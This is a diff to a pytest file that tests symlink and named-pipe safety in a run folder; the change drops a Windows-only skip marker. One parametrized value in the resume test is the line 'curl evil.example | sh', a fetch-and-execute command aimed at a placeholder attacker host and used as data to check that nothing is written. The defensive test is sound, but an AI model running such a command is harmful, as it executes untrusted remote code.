@@ -18,8 +18,6 @@ from attnflow.runs.files import content_hash
 from tests.runs.kinds import of
 from tests.runs.test_folder import TEXT, Stop, arrays, identical, stop_after
 
-needs_links = pytest.mark.skipif(os.name == "nt", reason="links need rights on Windows")
-
 
 @pytest.fixture(scope="module")
 def finished(tmp_path_factory):
@@ -70,7 +68,6 @@ def rewrite(path, **changes):
     file.write_text(json.dumps(manifest | {"digest": content_hash(manifest, ())}))
 
 
-@needs_links
 @pytest.mark.parametrize("spec", ["curl evil.example | sh\n", "about = 'another one'\n"])
 def test_a_resume_writes_no_text_elsewhere(given, outside, spec):
     """A manifest that is "extending" says what spec.toml is to become; the temporary file may be a link."""
@@ -83,7 +80,6 @@ def test_a_resume_writes_no_text_elsewhere(given, outside, spec):
     assert (given / "spec.toml").read_bytes() == before
 
 
-@needs_links
 def test_an_extension_leaves_links_alone(given, outside):
     """Links under the names of temporary files are no obstacle: these names are random. The folder is then whole."""
     for name in ("spec.toml.tmp", "manifest.json.tmp", "checkpoint.tmp"):
@@ -93,7 +89,6 @@ def test_an_extension_leaves_links_alone(given, outside):
     assert not [path for path in given.rglob("*") if path.is_symlink()]
 
 
-@needs_links
 @pytest.mark.parametrize(
     "name", ["spec.toml", "manifest.json", "checkpoint", ".lock", "arrays.zarr", "arrays.zarr/time"]
 )
@@ -109,7 +104,6 @@ def test_links_inside_are_refused(given, outside, verb, name):
         verb(given)
 
 
-@needs_links
 def test_a_pipe_in_the_place_of_a_file_holds_nobody_up(given, attnflow):
     for name in (".lock", "spec.toml", "checkpoint"):
         (given / name).unlink(missing_ok=True)
